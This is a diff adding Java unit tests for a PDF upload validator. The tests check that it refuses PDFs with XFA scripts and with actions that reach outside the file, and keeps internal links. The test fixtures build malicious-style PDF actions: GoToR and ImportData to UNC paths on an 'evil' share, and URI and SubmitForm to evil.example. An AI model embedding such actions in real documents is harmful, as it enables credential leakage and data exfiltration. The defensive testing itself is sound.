@@ -99,6 +99,55 @@ class PdfFilesTest {
 		assertThat(refusal(save(document)).rule()).isEqualTo("pdf-script");
 	}
 
+	/** A one-page document whose catalog has {@code catalogEntries} and whose page has {@code pageEntries}. */
+	static byte[] document(String catalogEntries, String pageEntries, String... objects) {
+		return PdfScriptsTest.pdf("1 0 obj<</Type/Catalog/Pages 2 0 R" + catalogEntries + ">>endobj\n"
+				+ "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
+				+ "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]" + pageEntries + ">>endobj\n" + String.join("\n", objects));
+	}
+
+	@Test
+	void anXfaFormIsRefusedAsAScript() {
+		FieldError error = refusal(document("/AcroForm<</Fields[]/XFA 4 0 R>>", "",
+				"4 0 obj<</Length 60>>stream\n<xdp:xdp><script>xfa.host.messageBox(1)</script></xdp:xdp>\nendstream\nendobj"));
+		assertThat(error.rule()).isEqualTo("pdf-script");
+		assertThat(error.message()).contains("含有脚本");
+	}
+
+	/**
+	 * Actions that open, fetch or send outside the file are refused under {@code pdf-action} wherever they sit: the
+	 * catalog's /OpenAction and /AA, a page's /AA, a link's /A, a form field's /AA, an outline item, a /Next chain, a
+	 * name tree — a remote /GoToR to a UNC path, /URI, /SubmitForm, /ImportData, a /Thread in another file.
+	 */
+	@Test
+	void actionsThatReachOutsideTheFileAreRefusedWhereverTheySit() {
+		String goToR = "<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\x.pdf)/D[0/Fit]>>";
+		List<byte[]> files = List.of(document("/OpenAction" + goToR, ""),
+				document("/AA<</WC<</S/URI/URI(http://evil.example/p)>>>>", ""),
+				document("", "/AA<</O<</S/SubmitForm/F<</FS/URL/F(http://evil.example/s)>>>>>>"),
+				document("", "/Annots[4 0 R]", "4 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/ImportData/F(\\\\\\\\evil\\\\x.fdf)>>>>endobj"),
+				document("/AcroForm<</Fields[4 0 R]>>", "", "4 0 obj<</FT/Tx/T(a)/AA<</K<</S/URI/URI(http://evil.example)>>>>>>endobj"),
+				document("/Outlines 4 0 R", "", "4 0 obj<</Type/Outlines/First 5 0 R/Last 5 0 R/Count 1>>endobj",
+						"5 0 obj<</Title(x)/Parent 4 0 R/A<</S/GoTo/D[3 0 R/Fit]/Next " + goToR + ">>>>endobj"),
+				document("/Names<</Dests<</Names[(a) " + goToR + "]>>>>", ""),
+				document("/OpenAction<</S/Thread/F(\\\\\\\\evil\\\\x.pdf)/D 0>>", ""));
+		for (byte[] file : files) {
+			FieldError error = refusal(file);
+			assertThat(error.rule()).as(new String(file, StandardCharsets.ISO_8859_1)).isEqualTo("pdf-action");
+			assertThat(error.message()).contains("访问外部文件、网址");
+		}
+	}
+
+	@Test
+	void aLinkWithinTheDocumentIsKept() {
+		byte[] linked = document("/OpenAction<</S/GoTo/D[3 0 R/Fit]>>/Outlines 4 0 R", "/Annots[6 0 R]",
+				"4 0 obj<</Type/Outlines/First 5 0 R/Last 5 0 R/Count 1>>endobj",
+				"5 0 obj<</Title(x)/Parent 4 0 R/Dest[3 0 R/Fit]>>endobj",
+				"6 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoTo/D[3 0 R/XYZ 0 842 0]>>>>endobj");
+		assertThat(new UploadedFile("扫描件.pdf", linked).checkedContentType("file", "附件", PdfScriptsTest.LIMIT))
+			.isEqualTo("application/pdf");
+	}
+
 	@Test
 	void aRealOnePagePdfIsKept() {
 		assertThat(new UploadedFile("扫描件.pdf", PdfFiles.blankPage()).checkedContentType("file", "附件", PdfScriptsTest.LIMIT))
